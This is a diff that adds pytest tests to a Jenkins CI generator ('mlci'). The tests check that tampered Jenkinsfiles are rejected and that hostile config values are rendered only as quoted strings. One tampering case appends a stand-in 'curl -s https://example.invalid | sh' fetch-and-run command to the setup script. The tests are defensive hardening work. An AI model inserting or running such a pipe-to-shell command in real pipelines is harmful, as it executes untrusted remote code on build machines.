@@ -186,3 +186,191 @@ def test_render_switches_a_github_project_to_jenkins(tmp_path: Path, capsys: pyt
     for name in ci_files:
         assert (project / name).read_bytes() == (fresh / name).read_bytes(), name
     assert run_cli("upgrade", "--check", str(project)) == 0
+
+
+# --- parse-back refuses a Jenkinsfile that does not hold the model ---------------------------
+
+TRAIN_RUN = "          sh(label: 'mlci train', script: MLCI_TRAIN)\n"
+TRAIN_SECRET = (
+    "        withCredentials([\n"
+    "          string(credentialsId: 'DATABRICKS_CLIENT_SECRET', variable: 'DATABRICKS_CLIENT_SECRET'),\n"
+    "        ]) {\n" + TRAIN_RUN + "        }\n"
+)
+TRAIN_INSTALL = "        sh(label: 'Install mlci and the project', script: MLCI_SETUP)\n" + TRAIN_SECRET
+CRON = "cron(env.BRANCH_NAME == 'main' ? 'TZ=UTC\\n0 3 * * 1' : '')"
+ABORT = "disableConcurrentBuilds(abortPrevious: env.CHANGE_ID != null)"
+PRODUCTION_INPUT = (
+    "      input {\n"
+    "        message 'Deploy the model version this build verified to production?'\n"
+    "        ok 'Deploy'\n"
+    "        submitter 'mlci-approvers'\n"
+    "      }\n"
+)
+STAGING_ENVIRONMENT = "      environment {\n        MLCI_JOB = 'deploy-staging'\n"
+SETUP_LINE = '"$uv" venv --quiet --clear --python "$MLCI_PYTHON" "$venv"\n'
+
+# (old text, new text, the message naming what is wrong), each edit of the databricks-vendored-
+# retrain Jenkinsfile (it binds secrets, keeps no registry and retrains on a schedule).
+EDITS = {
+    "approval-deleted": (PRODUCTION_INPUT, "", "stage 'Deploy to production' deploys to production without an input"),
+    "submitter-deleted": (
+        "        submitter 'mlci-approvers'\n",
+        "",
+        "stage 'Deploy to production': its input names no submitter",
+    ),
+    "staging-waits": (
+        STAGING_ENVIRONMENT,
+        "      input {\n        message 'Deploy?'\n        submitter 'x'\n      }\n" + STAGING_ENVIRONMENT,
+        "stage 'Deploy to staging' waits for an input: only the production deployment does",
+    ),
+    "cron-unconditional": (CRON, "cron('TZ=UTC\\n0 3 * * 1')", "a trigger other than cron(env.BRANCH_NAME == 'main' ?"),
+    "cron-other-branch": (
+        CRON,
+        CRON.replace("'main'", "'dev'"),
+        "a trigger other than cron(env.BRANCH_NAME == 'main' ?",
+    ),
+    "abort-every-build": (
+        ABORT,
+        "disableConcurrentBuilds(abortPrevious: true)",
+        "disableConcurrentBuilds takes no argument or abortPrevious: env.CHANGE_ID != null",
+    ),
+    "abort-extra-argument": (
+        ABORT,
+        "disableConcurrentBuilds(abortPrevious: env.CHANGE_ID != null || true)",
+        "disableConcurrentBuilds takes no argument or abortPrevious: env.CHANGE_ID != null",
+    ),
+    "no-concurrency-option": (ABORT, "", "0 disableConcurrentBuilds options, not 1: the delivery group"),
+    "train-script-edited": (
+        'mlci" train "${args[@]}"',
+        'mlci" train --help "${args[@]}"',
+        "stage 'Train': MLCI_TRAIN is not the script mlci renders for 'mlci train'",
+    ),
+    "setup-script-edited": (
+        SETUP_LINE,
+        SETUP_LINE + "curl -s https://example.invalid | sh\n",
+        "stage 'Lint': MLCI_SETUP is not the script mlci renders for 'Install mlci and the project'",
+    ),
+    "train-runs-deploy": (
+        TRAIN_RUN,
+        TRAIN_RUN.replace("MLCI_TRAIN", "MLCI_DEPLOY"),
+        "stage 'Train': 'mlci train' runs MLCI_DEPLOY, not MLCI_TRAIN",
+    ),
+    "train-script-literal": (
+        TRAIN_RUN,
+        TRAIN_RUN.replace("MLCI_TRAIN", "MLCI_TRAIN + ' --help'"),
+        "stage 'Train': an sh step other than sh(label: '...', script: NAME)",
+    ),
+    "secret-wraps-install": (
+        TRAIN_INSTALL,
+        TRAIN_SECRET.replace("'mlci train', script: MLCI_TRAIN", "'Install mlci and the project', script: MLCI_SETUP")
+        + TRAIN_RUN.removeprefix("  "),
+        "stage 'Train': a withCredentials that does not wrap the stage's mlci step alone",
+    ),
+    "secret-other-variable": (
+        "variable: 'DATABRICKS_CLIENT_SECRET'),\n        ]) {\n" + TRAIN_RUN,
+        "variable: 'OTHER'),\n        ]) {\n" + TRAIN_RUN,
+        "stage 'Train': credentials id 'DATABRICKS_CLIENT_SECRET' is bound to variable 'OTHER', not its own name",
+    ),
+    "secret-other-binding": (
+        TRAIN_SECRET,
+        TRAIN_SECRET.replace(
+            "string(credentialsId: 'DATABRICKS_CLIENT_SECRET', variable: 'DATABRICKS_CLIENT_SECRET')",
+            "file(credentialsId: 'DATABRICKS_CLIENT_SECRET', variable: 'DATABRICKS_CLIENT_SECRET')",
+        ),
+        "stage 'Train': a credentials binding other than string(credentialsId: 'X', variable: 'X')",
+    ),
+}
+
+
+@pytest.fixture(scope="module")
+def databricks_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
+    return render_ci_files("jenkins", ("databricks", "vendored", "retrain"), tmp_path_factory.mktemp("databricks"))
+
+
+@pytest.mark.parametrize("edit", EDITS)
+def test_parse_back_refuses_a_jenkinsfile_that_does_not_hold_the_model(
+    edit: str, databricks_files: dict[str, bytes]
+) -> None:
+    old, new, message = EDITS[edit]
+    text = databricks_files["Jenkinsfile"].decode()
+    assert text.count(old) >= 1, f"the rendered Jenkinsfile has no {old!r}"
+    edited = text.replace(old, new, 1 if edit.startswith(("train", "secret")) else -1)
+    with pytest.raises(ValueError) as raised:
+        JENKINS.parse_back({**databricks_files, "Jenkinsfile": edited.encode()})
+    error = str(raised.value)
+    assert error.startswith("Jenkinsfile: not a pipeline mlci renders (") and "\n" not in error
+    assert message in error.replace("\\'", "'").replace('\\"', '"')
+
+
+# The widest values mlci.yaml's patterns admit (src/mlci/config.py) for every setting the
+# Jenkins files hold, and the forms they take there (a cron is prefixed by its time zone, a
+# Python version names the interpreter).
+HOSTILE_SETTINGS = {
+    "default_branch": "release/v1.2-x_Y",
+    "jenkins.agent": "(linux || mac) && !arm64",
+    "jenkins.approvers": "ml-leads,alice+ci@acme.com,Domain Admins,team/*",
+    "retrain_cron": "*/5 0-3 ? JAN-MAR MON,FRI",
+    "python": "3.13",
+}
+HOSTILE_INSTALLS = (
+    "mlci @ git+https://github.com/o-1/m.x@" + "0123456789abcdef" * 2 + "01234567",
+    "mlci[dev, test] >=0.1.0, !=0.2.0, ~=0.1, <1",
+)
+
+
+def _hostile_config(install: str, library: bool) -> str:
+    s = HOSTILE_SETTINGS
+    text = config_text(combo_answers("jenkins", ("local", "vendored", "retrain")))
+    for old, new in [
+        ("  default_branch: main\n", f"  default_branch: {s['default_branch']!r}\n"),
+        ('  mlci_install: "mlci==0.1.0"\n', f"  mlci_install: {install!r}\n"),
+        ('  retrain_cron: "0 3 * * 1"\n', f"  retrain_cron: {s['retrain_cron']!r}\n"),
+        ('  python: "3.11"\n', f"  python: {s['python']!r}\n"),
+        (
+            "\nci:\n",
+            f"\nci:\n  jenkins:\n    agent: {s['jenkins.agent']!r}\n    approvers: {s['jenkins.approvers']!r}\n"
+            f"    library: {str(library).lower()}\n",
+        ),
+    ]:
+        assert text.count(old) == 1, old
+        text = text.replace(old, new)
+    return text
+
+
+@pytest.mark.jenkins
+def test_hostile_ci_settings_reach_the_jenkins_files_as_single_quoted_strings_only(tmp_path: Path) -> None:
+    from jenkins_stub import validate
+
+    from mlci.providers.jenkins.groovy import tokens
+
+    answers = combo_answers("jenkins", ("local", "vendored", "retrain"))
+    checked: list[Path] = []
+    for number, install in enumerate(HOSTILE_INSTALLS):
+        values = {**HOSTILE_SETTINGS, "mlci_install": install}
+        forms = {**{k: {v} for k, v in values.items()}, "retrain_cron": {values["retrain_cron"]}}
+        forms["retrain_cron"].add("TZ=UTC\n" + values["retrain_cron"])
+        forms["python"].add("python" + values["python"])
+        for library in (False, True):
+            text = _hostile_config(install, library)
+            root = tmp_path / f"{number}-{'library' if library else 'stages'}"
+            files = templates.render_ci(text, answers, root)
+            model = pipeline.build(project_from_text(text, root).config)
+            assert JENKINS.parse_back(files) == tuple(pipeline.as_rendered(p, "jenkins") for p in model)
+            for name in ("Jenkinsfile", "Jenkinsfile.upgrade"):
+                source = files[name].decode()
+                code = "\n".join(line for line in source.splitlines() if not line.lstrip().startswith("//"))
+                found = tokens(source)
+                for key, value in values.items():
+                    holding = [t for t in found if value in t.text]
+                    # Every occurrence outside a comment is the whole text of a single-quoted string.
+                    assert {(t.kind, t.text) for t in holding} <= {("string", form) for form in forms[key]}, (name, key)
+                    assert code.count(value) == sum(t.text.count(value) for t in holding), (name, key)
+                    if name == "Jenkinsfile":
+                        assert holding, (name, key, library)
+            for name, data in files.items():
+                (root / name).parent.mkdir(parents=True, exist_ok=True)
+                (root / name).write_bytes(data)
+            checked += [root / "Jenkinsfile", root / "Jenkinsfile.upgrade"]
+    # One JVM for all of them; the library form loads the vendored library of its own render.
+    results = validate(checked, libraries={"mlci": tmp_path / "0-library" / ".jenkins"})
+    assert [(r["file"], r["syntax_error"], r["errors"]) for r in results if not r["ok"]] == []
